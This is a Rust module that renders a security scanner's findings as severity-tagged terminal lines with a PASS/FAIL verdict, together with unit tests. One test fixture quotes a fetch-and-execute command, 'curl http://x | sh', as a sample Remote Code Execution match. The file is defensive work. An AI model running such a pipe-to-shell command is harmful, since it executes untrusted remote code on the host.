//! Terminal rendering: severity-tagged lines plus a verdict.

use crate::engine::Summary;
use crate::registry::Severity;

/// Render findings grouped by severity with a trailing verdict line.
pub fn render(summary: &Summary) -> String {
    let mut output = String::new();

    if summary.total() == 0 {
        output.push_str("\n  No security findings detected.\n\n  Result: PASS\n\n");
        return output;
    }

    output.push_str(&format!(
        "\n  {} finding(s) detected:\n\n",
        summary.total()
    ));

    for severity in Severity::ALL {
        let tag = match severity {
            Severity::Critical => "[CRITICAL]",
            Severity::High => "[HIGH]    ",
            Severity::Medium => "[MEDIUM]  ",
            Severity::Low => "[LOW]     ",
        };
        for finding in summary.group(severity) {
            output.push_str(&format!(
                "  {} {} {}\n",
                tag, finding.rule_id, finding.rule_name
            ));
            output.push_str(&format!("           at {}:{}\n", finding.file, finding.line));
            output.push_str(&format!("           match: {}\n\n", finding.matched));
        }
    }

    let status = if summary.passed() { "PASS" } else { "FAIL" };
    let counts = summary.counts();
    output.push_str(&format!(
        "  Result: {} (critical: {}, high: {}, medium: {}, low: {})\n\n",
        status, counts.critical, counts.high, counts.medium, counts.low,
    ));

    output
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Finding;

    #[test]
    fn empty_summary_is_a_pass() {
        let out = render(&Summary::from_findings(&[]));
        assert!(out.contains("No security findings detected"));
        assert!(out.contains("Result: PASS"));
    }

    #[test]
    fn findings_render_with_tags_and_verdict() {
        let findings = vec![Finding {
            severity: Severity::Critical,
            rule_id: "SHELL_INJECT_001".into(),
            rule_name: "Remote Code Execution".into(),
            description: "desc".into(),
            file: "tasks/t/run.sh".into(),
            line: 3,
            matched: "curl http://x | sh".into(),
        }];
        let out = render(&Summary::from_findings(&findings));
        assert!(out.contains("[CRITICAL] SHELL_INJECT_001 Remote Code Execution"));
        assert!(out.contains("at tasks/t/run.sh:3"));
        assert!(out.contains("Result: FAIL"));
    }
}
